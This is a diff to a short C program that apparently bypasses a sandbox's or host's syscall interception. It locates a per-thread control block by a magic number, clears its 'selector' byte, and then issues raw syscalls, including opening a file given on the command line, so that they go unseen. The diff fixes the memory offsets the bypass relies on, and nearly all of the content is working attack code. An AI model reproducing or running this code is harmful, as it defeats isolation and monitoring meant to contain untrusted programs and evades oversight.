@@ -42,7 +42,7 @@ static long call(long nr, long a, long b, long c)
 	return ret;
 }
 
-/* What stands behind the magic number of this thread's block. */
+/* What stands behind the magic number that this thread's block begins with. */
 static uint64_t *find_block(void)
 {
 	uint64_t gs, word, magic;
@@ -58,8 +58,8 @@ static uint64_t *find_block(void)
 		}
 		if (word >> 40 < 0x7e || word % 8 || word >> 47)
 			continue;
-		if (reads((void *)(word - 8), &magic) && magic == MAGIC)
-			return (uint64_t *)word;
+		if (reads((void *)word, &magic) && magic == MAGIC)
+			return (uint64_t *)word + 1;
 	}
 	return NULL;
 }
@@ -77,10 +77,10 @@ int main(int argc, char **argv)
 		puts("no block");
 		return 1;
 	}
-	/* Behind five words of the kernel's and two of the host's. No page may be touched
+	/* Behind the guest's address and two words of the host's. No page may be touched
 	 * for the first time while it is clear: nobody would show it.
 	 */
-	selector = (volatile unsigned char *)(block + 7);
+	selector = (volatile unsigned char *)(block + 3);
 	*selector = 0;
 	long outside = call(SYS_getpid, 0, 0, 0);
 	long file = call(SYS_open, (long)argv[1], 0, 0);
